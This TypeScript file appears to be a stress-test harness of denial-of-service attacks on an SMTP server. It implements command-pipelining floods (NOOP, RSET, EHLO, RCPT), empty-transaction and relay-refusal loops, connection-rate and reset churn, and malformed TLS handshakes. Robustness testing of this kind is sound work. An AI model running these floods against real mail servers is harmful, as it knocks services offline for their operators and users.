/** Attacks by speed: pipelines without an end, connections without a rest. */
import { randomBytes } from 'node:crypto';
import type { Socket } from 'node:net';
import type { Attack } from './attack.ts';
import { buildUp, closed, converse, dial, keepVisiting } from './attack-socket.ts';

const HELLO = 'EHLO attacker.example\r\n';
const MAIL = 'MAIL FROM:<a@attacker.example>\r\n';
/** About as much as the server reads at once. */
const FLOOD_OCTETS = 65_536;

/** Sends `commands` over and over as fast as they are taken, and reads all replies. */
function pipeline(preamble: string, commands: string): Attack {
  const flood = commands.repeat(Math.ceil(FLOOD_OCTETS / commands.length));
  return async (target) => {
    await buildUp(target.count, (index) => {
      const socket = dial(target.inbound, index, target).resume();
      socket.write(preamble, 'latin1');
      pour(socket, flood);
      return Promise.resolve();
    });
  };
}

function pour(socket: Socket, octets: string): void {
  const more = (): void => {
    while (socket.writable && socket.write(octets, 'latin1'));
  };
  socket.on('drain', more).on('connect', more);
}

export const noops = pipeline(HELLO, 'NOOP\r\n');
export const resets = pipeline(HELLO, 'RSET\r\n');
export const hellos = pipeline('', HELLO);
/** Transactions of nothing, each with an event of its own, until the server hangs up, and again on a new connection. */
export const emptyTransactions: Attack = async (target) => {
  const empty = `${HELLO}${`${MAIL}RSET\r\n`.repeat(200)}`;
  await keepVisiting(target.count, async (index) => {
    const socket = dial(target.inbound, index, target);
    await converse(socket, empty, 242);
    socket.destroy();
  });
};
/** Taken up to `maxRecipients`, and told 452 from then on, which no error count ends. */
export const recipients = pipeline(`${HELLO}${MAIL}`, 'RCPT TO:<bob@example.com>\r\n');

/** Relay denied until the server hangs up, and again on a new connection. */
export const refusedRecipients: Attack = async (target) => {
  const denied = Array.from({ length: 200 }, (_, index) => `RCPT TO:<u${index}@elsewhere${index}.example>\r\n`);
  await keepVisiting(target.count, async (index) => {
    const socket = dial(target.inbound, index, target);
    await converse(socket, `${HELLO}${MAIL}${denied.join('')}`, 203);
    socket.destroy();
  });
};

/** `count` connections a second, each greeted and gone. */
export const connectionRate: Attack = async (target) => {
  let index = 0;
  const started = performance.now();
  setInterval(() => {
    const due = Math.floor(((performance.now() - started) / 1000) * target.count);
    // What a stalled moment left undone is not made up for at once.
    index = Math.max(index, due - target.count);
    for (; index < due; index += 1) {
      const socket = dial(target.inbound, index % 5000, target);
      void converse(socket, '', 1).then(() => socket.end('QUIT\r\n'));
      socket.resume();
    }
  }, 10);
};

/** Connections reset at whatever moment. */
export const churn: Attack = async (target) => {
  const words = ['', HELLO, `${HELLO}${MAIL}RCPT TO:<bob@example.com>\r\n`, `${HELLO}STARTTLS\r\n`];
  let visits = 0;
  await keepVisiting(target.count, async (index) => {
    visits += 1;
    const socket = dial(target.inbound, index, target);
    const octets = words[visits % words.length] ?? '';
    await converse(socket, octets, 1 + (visits % 2));
    socket.resetAndDestroy();
    await closed(socket);
  });
};

/** Garbage where a ClientHello belongs, random or nearly right. */
export const garbageHandshakes: Attack = async (target) => {
  let visits = 0;
  await keepVisiting(target.count, async (index) => {
    visits += 1;
    const socket = dial(target.submissions, index, target).resume();
    const isNearlyRight = visits % 2 === 0;
    const record = isNearlyRight ? Buffer.from('16030102000100', 'hex') : Buffer.alloc(0);
    socket.end(Buffer.concat([record, randomBytes(512)]));
    await closed(socket);
  });
};
